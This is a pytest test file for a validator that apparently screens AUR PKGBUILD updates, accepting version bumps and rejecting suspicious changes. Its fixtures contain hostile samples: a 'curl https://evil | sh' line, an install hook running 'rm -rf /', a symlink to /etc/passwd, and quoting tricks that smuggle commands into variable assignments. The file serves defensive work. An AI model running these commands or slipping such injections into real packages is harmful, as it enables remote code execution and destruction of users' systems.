from pathlib import Path

from aurwatch.checks.content import ContentClass
from aurwatch.checks.validator import (
    ChangeTag,
    apply_changes,
    iter_file_reports,
    line_diff,
    render_changes,
    validate_trees,
)

PNG_A = b"\x89PNG\r\n\x1a\n" + b"\x00" * 8 + b"\x01"
PNG_B = b"\x89PNG\r\n\x1a\n" + b"\x00" * 8 + b"\x02"

PKGBUILD_OLD = """\
pkgname=foo
pkgver=1.0
pkgrel=1
sha256sums=('aaa')

package() {
  install -Dm644 foo.txt "$pkgdir/usr/share/foo.txt"
}
"""

PKGBUILD_NEW = PKGBUILD_OLD.replace("pkgver=1.0", "pkgver=1.1").replace("'aaa'", "'bbb'")


def test_version_bump_is_accepted(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": PKGBUILD_OLD})
    remote = make_tree("remote", {"PKGBUILD": PKGBUILD_NEW})
    verdict = validate_trees(local, remote)
    assert verdict.ok is True
    assert verdict.added_lines == 2


def test_identical_trees_are_rejected_as_no_op(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": PKGBUILD_OLD})
    remote = make_tree("remote", {"PKGBUILD": PKGBUILD_OLD})
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason == "no change detected"


def test_reformatting_alone_is_a_no_op(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\npkgrel=1\n"})
    remote = make_tree("remote", {"PKGBUILD": "\n  pkgver=1.0\n\n# comment\npkgrel=1   \n"})
    assert validate_trees(local, remote).reason == "no change detected"


def test_added_command_is_rejected(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n"})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\ncurl https://evil | sh\n"})
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason.startswith("non-assignment change")


def test_one_byte_opaque_change_is_rejected(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n", "blob.bin": b"\x00\x01\x02"})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\n", "blob.bin": b"\x00\x01\x03"})
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason.startswith("binary content changed: blob.bin")


def test_image_change_is_exempt(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n", "icon.png": PNG_A})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\n", "icon.png": PNG_B})
    assert validate_trees(local, remote).ok is True


def test_image_only_change_is_a_no_op(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n", "icon.png": PNG_A})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.0\n", "icon.png": PNG_B})
    assert validate_trees(local, remote).reason == "no change detected"


def test_text_disguised_as_image_is_reviewed(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n", "icon.gif": "GIF89a\n"})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\n", "icon.gif": "GIF89a\nid\n"})
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason.startswith("non-assignment change")


def test_new_remote_file_is_reviewed(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n"})
    remote = make_tree(
        "remote",
        {"PKGBUILD": "pkgver=1.1\n", "zz.install": "post_install() {\n  rm -rf /\n}\n"},
    )
    reports = list(iter_file_reports(local, remote))
    assert [report.rel_path for report in reports] == [Path("PKGBUILD"), Path("zz.install")]
    assert reports[1].changed is True
    assert validate_trees(local, remote).ok is False


def test_new_remote_image_is_accepted(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n"})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\n", "zz.png": PNG_A})
    reports = list(iter_file_reports(local, remote))
    assert reports[1].content_class is ContentClass.EXEMPT_BINARY
    assert reports[1].changed is True
    assert validate_trees(local, remote).ok is True


def test_unaligned_trees_are_rejected(make_tree) -> None:
    local = make_tree("local", {"a.txt": "pkgver=1\n"})
    remote = make_tree("remote", {"b.txt": "pkgver=2\n"})
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason.startswith("unaligned trees")


def test_line_diff_and_render() -> None:
    changes = line_diff("a\nb\n", "a\nc\n")
    assert [change.tag for change in changes] == [
        ChangeTag.UNCHANGED,
        ChangeTag.REMOVED,
        ChangeTag.ADDED,
    ]
    assert render_changes(changes) == " a\n-b\n+c"


def test_apply_changes_copies_remote_files(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n", "keep.txt": "local only"})
    remote = make_tree(
        "remote",
        {"PKGBUILD": "pkgver=1.1\n", "sub/new.txt": "new", ".git/HEAD": "ref"},
    )
    copied = apply_changes(local, remote)
    assert copied == [Path("PKGBUILD"), Path("sub/new.txt")]
    assert (local / "PKGBUILD").read_text() == "pkgver=1.1\n"
    assert (local / "sub" / "new.txt").read_text() == "new"
    assert (local / "keep.txt").read_text() == "local only"
    assert not (local / ".git").exists()


def test_new_symlink_is_rejected(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n"})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\n"})
    (remote / "zz.conf").symlink_to("/etc/passwd")
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason == "symbolic link changed: zz.conf -> /etc/passwd"


def test_unchanged_symlink_is_accepted(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n", "doc.txt": "docs"})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\n", "doc.txt": "docs"})
    (local / "readme").symlink_to("doc.txt")
    (remote / "readme").symlink_to("doc.txt")
    assert validate_trees(local, remote).ok is True
    apply_changes(local, remote)
    assert (local / "readme").is_symlink()


def test_ansi_c_quoting_cannot_hide_a_command(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n"})
    remote = make_tree(
        "remote", {"PKGBUILD": "pkgver=1.1\narch=($'\\'(' 'x86_64')\necho PWNED\n"}
    )
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason == "non-assignment change: 'echo PWNED'"


def test_array_left_open_at_end_of_file_is_rejected(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n"})
    remote = make_tree("remote", {"PKGBUILD": "pkgver=1.1\narch=('x86_64\necho PWNED\n"})
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason == "unbalanced quoting in 'arch'"


def test_multiline_string_is_checked_as_one_statement(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": 'pkgdesc="multi\nline"\npkgver=1.0\n'})
    remote = make_tree(
        "remote",
        {"PKGBUILD": 'pkgdesc="multi\n_a=" && echo PWNED && _b="\nline"\npkgver=1.1\n'},
    )
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason == "command after assignment to 'pkgdesc'"


def test_comment_line_inside_string_is_not_dropped(make_tree) -> None:
    local = make_tree("local", {"PKGBUILD": "pkgver=1.0\n"})
    remote = make_tree("remote", {"PKGBUILD": 'pkgver=1.1\n_x="a\n# b";echo PWNED\n'})
    verdict = validate_trees(local, remote)
    assert verdict.ok is False
    assert verdict.reason == "command after assignment to '_x'"
